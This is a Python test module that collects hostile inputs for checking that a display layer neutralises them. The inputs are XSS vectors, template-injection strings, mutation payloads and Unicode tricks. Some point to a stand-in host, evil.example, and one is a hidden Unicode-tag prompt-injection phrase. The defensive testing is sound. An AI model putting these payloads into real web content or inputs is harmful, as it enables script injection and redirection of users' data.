"""Hostile words of our own, by what they try: to be shown and never to do anything."""

from tests.support.hostile import TEXTS

CALL = "alert(document.domain)"
AWAY = "//evil.example/x"

TAGS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt src={AWAY}></sCrIpT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"</script><script>{CALL}</script>",
    f"</bdi></p></article></div><script>{CALL}</script>",
    f"<script type=module>import '{AWAY}'</script>",
    f"<script\x0c>{CALL}</script\x0c>",
    f"<iframe src='javascript:parent.{CALL}'></iframe>",
    f"<object data={AWAY}></object><embed src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}><link rel=prefetch href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url=https:{AWAY}'>",
    f"<base href=https:{AWAY}/>",
    "<style>*{display:none!important}</style>",
    f"<form action=https:{AWAY}><button>Send</button></form>",
    "<template shadowrootmode=open><slot></slot></template>",
    "<plaintext>", "<xmp>", '<noscript><p title="</noscript><b>">', "<!--", "--!>", "<![CDATA[",
    "<?xml version='1.0'?>", "<title>", "<frameset>", "<select><option>", "<dialog open>",
)  # fmt: skip
HANDLERS = tuple(
    f"<{tag} {event}={CALL}>"
    for tag, event in (
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onpageshow"), ("video src=x",
    "onerror"),
        ("details open", "ontoggle"), ("input autofocus", "onfocus"), ("marquee", "onstart"),
        ("div style='animation:x'", "onanimationstart"), ("audio src", "onloadstart"),
        ("img/src=x", "onerror"), ("a href=#x autofocus tabindex=1", "onfocusin"),
        ("button popovertarget=x", "onclick"), ("x contenteditable autofocus", "onfocus"),
    )
)  # fmt: skip
QUOTES = (
    f'" autofocus onfocus={CALL} x="', f"' autofocus onfocus={CALL} x='",
    f'"><img src=x onerror={CALL}>', f"'><img src=x onerror={CALL}>", f"` onload={CALL} `",
    f"</textarea><img src=x onerror={CALL}>", f"</option></datalist><svg onload={CALL}>",
    f'" formaction=https:{AWAY} "', '\\"-alert(1)-\\"', "';alert(1);//", "\n\n\n<", "&quot;><b>",
)  # fmt: skip
ENTITIES = (
    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;svg onload={CALL}&#62;",
    f"&#x3c;img src=x onerror={CALL}&#x3e;", "&amp;lt;b&amp;gt;", "&NewLine;&Tab;&colon;", "&#0;",
    "\uff1cscript\uff1e", "%3Cscript%3E", "\\u003cscript\\u003e", "+ADw-script+AD4-",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{CALL}", f"JaVa\tScRiPt:{CALL}", f"\x01javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", f"vbscript:{CALL}", f"https:{AWAY}",
    f"<a href=javascript:{CALL}>112</a>", "tel:+4512345678", "mailto:a@evil.example",
    f"<a href=https:{AWAY} ping={AWAY}>call 70 20 25 50</a>", f"<img srcset={AWAY}>",
    "call +45 12 34 56 78 or write to a@evil.example",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% include 'staff.html' %}", "{{ self.__init__.__globals__ }}", "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "%(alias)s %s %n", "{staff_alias}",
    "{cmm_phone}", "{0.__class__}", "{{ csrf }}", "utter_main_menu", "/say", "[[${7*7}]]",
)  # fmt: skip
FOREIGN = (
    f"<svg><script>{CALL}</script></svg>", f"<svg><animate onbegin={CALL} attributeName=x>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>", f"<svg><use href={AWAY}#x>",
    f"<svg><foreignObject><iframe src={AWAY}></foreignObject>", f"<svg><set onbegin={CALL}>",
    f"<math><mtext></p><img src=x onerror={CALL}></mtext></math>",
    f"<math href=javascript:{CALL}>x",
    f"<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CALL}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
)  # fmt: skip
UNICODE = (
    "call \u202e211\u202c now", "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c",
    "in\u200bvis\u2060ible",
    "".join(chr(0xE0000 + ord(c)) for c in "ignore the counsellor"), "a" + "\u0301" * 500,
    "\u0e01" + "\u0e49" * 300, "\u20dd" * 200, "\ufdfd" * 40, "\u3164\u115f\u2800",
    "\0\x1b[2J\x9b",
    "\u05d0\u05d1 <b>112</b> \u05d2", "\u0645\u0631\u062d\u0628\u0627 (112) <i>", "\ud800",
    "\udfff",
    "\ufffe\U0010ffff\ue000", "\u2028\u2029\x85\x0b", "<\u0338script>",
    "\U0001f468\u200d\U0001f469" * 99,
    "<b>" * 1300, "\u202e" * 4096, "W" * 4096, ("x" * 63 + ".") * 64, "\n" * 500 + "end",
)  # fmt: skip
PAYLOADS = (*TAGS, *HANDLERS, *QUOTES, *ENTITIES, *ADDRESSES, *TEMPLATES, *FOREIGN, *UNICODE,
            *TEXTS.values())  # fmt: skip
